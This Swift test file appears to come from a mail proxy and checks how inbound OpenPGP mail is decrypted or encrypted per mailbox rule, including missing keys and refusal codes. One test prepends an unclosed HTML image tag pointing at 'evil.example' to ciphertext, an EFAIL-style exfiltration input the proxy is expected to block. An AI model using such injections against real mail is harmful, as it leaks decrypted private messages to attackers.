import MIME
import MailFlow
import OpenPGP
import ProtectedMail
import Testing

/// Mail on its way to a mailbox that a rule has decrypted or encrypted.
@Suite struct InboundTreatmentTests: ProxySuite {
    private let inbound = ProxyDeclaration(direction: .inbound)
    private static let dora = Result {
        try SecretCertificate.generate(userIDs: ["Dora <dora@example.org>"], at: Timestamp(1_600_000_000))
    }

    private func harness(_ treatment: Rule.Inbound, missing: Rule.MissingKey? = nil) throws -> Harness {
        let harness = try Harness([try rule("mailbox", .never, missing: missing) { $0.inbound = treatment }])
        harness.keys.opening[try #require(EmailAddress("dora@example.org"))] = try Self.dora.get()
        harness.keys.add(try Self.dora.get(), for: "dora@example.org", .own)
        return harness
    }

    /// Encrypted by Bob's side to Dora, signed by Alice.
    private func encrypted(
        to recipients: [String] = ["dora@example.org"],
        content: (String, String) = ("text/html", "<p>secret words</p>\r\n")
    ) throws -> Mail {
        let sending = try Harness([try rule("r", .required, .required)])
        sending.keys.add(try Self.dora.get(), for: "dora@example.org")
        sending.markerKey = nil
        var mail = Mail(login: "alice@example.org")
        mail.to = ["<dora@example.org>"]
        mail.header[1] = ("To", " dora@example.org")
        mail.header[3] = ("Content-Type", " \(content.0)")
        mail.body = content.1
        let passage = sending.send(mail)
        let fields = mail.header.map { HeaderField(name: Array($0.0.utf8), value: Array($0.1.utf8)) }
        var header = EditedHeader(fields)
        for edit in passage.edits { header.apply(edit) }
        mail.login = nil
        mail.header = header.fields.map { ($0.name, String(decoding: $0.rawValue, as: UTF8.self)) }
        mail.body = try #require(passage.body)
        mail.to = recipients.map { "<\($0)>" }
        mail.piece = 500
        return mail
    }

    @Test func encryptedMailIsDeliveredOpened() throws {
        let harness = try harness(.decrypt)
        harness.keys.add(try People.alice.get(), for: "alice@example.org")
        let arrival = try send(encrypted(), harness, inbound)
        let all = try text(arrival.released(0))
        #expect(all.hasSuffix("\r\n\r\n<p>secret words</p>\r\n"), "\(all)")
        #expect(all.contains("Content-Type: text/html\r\n") && !all.contains("multipart/encrypted"))
        #expect(
            all.contains("Subject: hello\r\n") && all.contains("Guardd-Verdict: pass; protocol=openpgp; encrypted=yes"))
        #expect(try !arrival.released(0).isProtected)
        #expect(arrival.records.map(\.result) == [.opened] && arrival.records.map(\.plan) == ["decrypt"])
        #expect(arrival.records.first?.rules == ["mailbox"])
    }

    /// As clients write it that protect the header, in the form of RFC 9788 and in the older one.
    @Test(arguments: ["hp=\"cipher\"", "protected-headers=\"v1\"", ""])
    func aProtectedSubjectComesBack(_ parameter: String) throws {
        var mail = try encrypted()
        let type = parameter.isEmpty ? "text/plain" : "text/plain; \(parameter)"
        let inner = "Content-Type: \(type)\r\nSubject: the\r\n plan\r\nX-More: no\r\n\r\ninside\r\n"
        let key = try #require(try Self.dora.get().certificate.encryptionKeys(at: People.time).first)
        let encryptor = try MessageEncryptor(recipients: [EncryptionRecipient(key: key)], time: People.time)
        var packets: [UInt8] = []
        try encryptor.push(Array(inner.utf8), into: &packets)
        try encryptor.finish(into: &packets)
        let armor = String(decoding: packets, as: UTF8.self)
        let start = try #require(mail.body.range(of: "-----BEGIN PGP MESSAGE-----"))
        let end = try #require(mail.body.range(of: "-----END PGP MESSAGE-----\r\n"))
        mail.body.replaceSubrange(
            start.lowerBound..<end.upperBound,
            with: armor.replacing("\r\n", with: "\n").replacing("\n", with: "\r\n"))
        mail.header = mail.header.map { $0.0 == "Subject" ? ("Subject", " [...]") : $0 }
        let found = try text(send(mail, harness(.decrypt), inbound).released(0))
        #expect(found.contains(parameter.isEmpty ? "Subject: [...]\r\n" : "Subject: the\r\n plan\r\n"), "\(found)")
        #expect(found.hasSuffix("\r\n\r\ninside\r\n") && !found.contains("X-More"))
    }

    @Test func onlyTheReadersOwnKeyOpens() throws {
        // Mallory sends herself what she caught on its way to Dora, whose key is here.
        let mail = try encrypted(to: ["mallory@example.org", "dora@example.org"])
        let arrival = try send(mail, harness(.decrypt), inbound)
        #expect(try !text(arrival.released(0)).contains("secret words"))
        #expect(try arrival.released(0).body.bytes() == Array(mail.body.utf8))
        #expect(try text(arrival.released(0)).contains("encrypted-no-key"))
        #expect(try text(arrival.released(1)).contains("secret words"))
        #expect(try arrival.released(0).recipients.count == 1 && arrival.released(1).recipients.count == 1)
    }

    @Test func whatStandsBesideTheCiphertextKeepsItClosed() throws {
        var mail = try encrypted()
        mail.body = "<img src=\"http://evil.example/?\r\n" + mail.body
        #expect(try !text(send(mail, harness(.decrypt), inbound).released(0)).contains("secret words"))
        mail = try encrypted()
        let (name, type) = try #require(mail.header.first { $0.0 == "Content-Type" })
        mail.header = mail.header.filter { $0.0 != name } + [("Content-Type", " multipart/mixed; boundary=o")]
        mail.body = "--o\r\nContent-Type:\(type)\r\n\r\n\(mail.body)\r\n--o\r\n\r\nmore\r\n--o--\r\n"
        #expect(try !text(send(mail, harness(.decrypt), inbound).released(0)).contains("secret words"))
    }

    @Test func mailThatIsNotEncryptedIsJudgedOnce() throws {
        let arrival = try send(mail(to: ["dora@example.org", "other@example.org"]), harness(.decrypt), inbound)
        #expect(arrival.groups.count == 1)
        #expect(try text(arrival.released(1)).contains("pgp=none"))
    }

    @Test func mailAtRestIsEncryptedToItsReaderWithTheVerdictOutside() throws {
        let arrival = try send(mail(to: ["dora@example.org"]), harness(.encrypt), inbound)
        let all = try text(arrival.released(0))
        #expect(try arrival.released(0).isProtected)
        #expect(all.contains("multipart/encrypted") && !all.contains("secret words") && all.contains("pgp=none"))
        #expect(!all.contains("Guardd-Marker"))
        let (content, _, readers) = try Harness.decrypt(all, with: Self.dora.get())
        #expect(content.hasSuffix("secret words\r\n") && readers.count == 1 && readers != [.wildcard])
        #expect(arrival.records.map(\.result) == [.protected] && arrival.records.map(\.verdict) == ["none"])
    }

    @Test func withoutAKeyTheRuleSaysWhatHappens() throws {
        let mail = mail(to: ["nobody@example.org", "dora@example.org"])
        let clear = try send(mail, harness(.encrypt), inbound)
        #expect(try !clear.released(0).isProtected && clear.released(1).isProtected)
        #expect(try text(clear.released(0)).hasSuffix("secret words\r\n"))
        #expect(try send(mail, harness(.encrypt, missing: .defer), inbound).refusal(0) == "451 4.7.5")
        let refused = try send(mail, harness(.encrypt, missing: .refuse), inbound)
        #expect(try refused.refusal(0) == "550 5.7.5" && refused.released(1).isProtected)
    }

    @Test func aKeyThatAStrangerSentAlongTakesNoMailboxAway() throws {
        let harness = try harness(.encrypt)
        harness.keys.add(try People.bob.get(), for: "nobody@example.org", .autocrypt)
        #expect(try !send(mail(to: ["nobody@example.org"]), harness, inbound).released(0).isProtected)
    }

    @Test func whatIsEncryptedAlreadyStaysWithItsVerdict() throws {
        let mail = try encrypted()
        let arrival = try send(mail, harness(.encrypt), inbound)
        #expect(try arrival.released(0).body.bytes() == Array(mail.body.utf8))
        #expect(try text(arrival.released(0)).contains("Guardd-Verdict: "))
        #expect(arrival.records.map(\.result) == [.alreadyProtected])
    }

    @Test func tooManyCopiesComeAgainLater() throws {
        let harness = try harness(.encrypt)
        var splitting = Splitting()
        splitting.maxCopies = 1
        harness.policy.splitting = splitting
        let arrival = try send(mail(to: ["dora@example.org", "dora@example.org"]), harness, inbound)
        #expect(try arrival.released(0).isProtected && arrival.refusal(1) == "451 4.5.3")
    }

    /// All recipients of a milter share one message, and outbound mail is not on its way to a mailbox.
    @Test func nothingHappensElsewhere() throws {
        let harness = try harness(.encrypt)
        var mail = mail(to: ["dora@example.org"])
        #expect(harness.send(mail).body == nil)
        mail.login = "alice@example.org"
        #expect(harness.send(mail).body == nil)
        #expect(try !send(mail, harness).released(0).isProtected)
        #expect(try harness.budget.inUse == 0 && self.harness(.decrypt).send(encrypted()).body == nil)
    }
}
